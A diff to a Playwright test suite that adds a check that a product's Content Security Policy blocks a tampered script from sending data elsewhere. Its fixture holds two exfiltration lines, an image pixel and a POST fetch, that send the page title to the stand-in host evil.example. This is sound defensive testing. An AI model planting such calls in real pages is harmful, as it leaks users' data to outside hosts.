@@ -86,8 +86,43 @@ function drawAsItIs({ html }: Attack, way: 'parsed' | 'inserted') {
   return `${head}<script type="application/json" id="content">${data}</script><script src="/insert.js" integrity="${integrity}" crossorigin="anonymous"></script>`;
 }
 
+/** What a script of the page itself would do that somebody tampered with. */
+const track = `
+  new Image().src = 'https://evil.example/pixel.png?' + document.title;
+  fetch('https://evil.example/data', { method: 'POST', mode: 'no-cors', body: document.title }).catch(() => {});
+`;
+const trackIntegrity = `sha384-${createHash('sha384').update(track).digest('base64')}`;
+
 test.describe('on a page without the sanitiser', () => {
-  test.use({ expectedErrors: [/Content Security Policy|Failed to load resource/] });
+  test.use({
+    expectedErrors: [/Content Security Policy|Failed to load resource/],
+    expectedHosts: ['evil.example'],
+  });
+
+  test('the policy lets no script of the page fetch a tracking pixel or send anything to another host; without it both work', async ({
+    page,
+  }) => {
+    const found = await watch(page);
+    const { 'content-security-policy': policy = '' } = (await page.request.get('/login')).headers();
+    let headers = {};
+    await page.route('**/track.js', (route) => route.fulfill({ contentType: 'text/javascript', body: track }));
+    await page.route('**/fixture', (route) =>
+      route.fulfill({
+        contentType: 'text/html',
+        body: `${head}<script src="/track.js" integrity="${trackIntegrity}" crossorigin="anonymous"></script>`,
+        headers,
+      }),
+    );
+
+    await page.goto('/fixture');
+    await expect.poll(() => found.outside.length, 'without the policy').toBe(2);
+    found.outside.length = 0;
+    headers = { 'content-security-policy': policy };
+    await page.goto('/fixture');
+
+    await expect.poll(() => found.refused.toSorted()).toEqual(['connect-src', 'img-src']);
+    expect(found.outside).toEqual([]);
+  });
 
   for (const way of ['parsed', 'inserted'] as const)
     test(`the policy of the product alone stops every attack that is ${way}; without it each of them works`, async ({
